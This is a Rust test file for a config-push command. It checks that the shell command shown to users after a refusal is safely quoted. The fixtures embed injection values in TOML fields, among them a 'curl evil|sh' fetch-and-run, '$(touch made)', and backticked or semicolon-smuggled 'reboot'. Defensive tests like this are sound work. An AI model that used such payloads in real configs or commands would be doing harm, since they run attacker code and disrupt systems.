//! What a message says to run is safe to paste.

use crate::app::App;

const DEPLOY: &str = "\n[adapters.spin.commands]\ndeploy = \"spin deploy\"\n";

pub(crate) fn what_a_message_says_to_run_is_quoted_for_sh() {
    for (stanza, command) in [
        (
            "type = \"redis\"\nurl = \"redis://h; curl evil|sh \"\n",
            "redis-cli -u 'redis://h; curl evil|sh ' SET",
        ),
        (
            "type = \"redis\"\nurl = \"redis://h';$(touch made)'\"\n",
            "redis-cli -u 'redis://h'\\'';$(touch made)'\\''' SET",
        ),
        (
            "type = \"redis\"\nurl = \"redis://h:6379/2\"\n",
            "redis-cli -u redis://h:6379/2 SET",
        ),
        (
            "type = \"redis\"\nurl = \"redis://h\\nreboot\"\n",
            "redis-cli -u <url> SET",
        ),
        (
            "type = \"aws_dynamo\"\ntable = \"t`reboot`\"\n",
            "--table-name 't`reboot`' --item",
        ),
    ] {
        let app = App::new();
        app.write(
            "spin/runtime-config.toml",
            &format!("[key_value_store.app_config]\n{stanza}"),
        );
        app.run(&["config", "push"]).refused(&[command]);
    }
    let app = App::new();
    app.fake_spin("4.0.0", 1, "No key value store found with label");
    app.write("edgezero.toml", &(app.read("edgezero.toml") + DEPLOY));
    app.edit("spin/spin.toml", "cloud-shop", "a; reboot");
    app.run(&["config", "push"])
        .refused(&["--app 'a; reboot' --store <store> app_config"]);
}
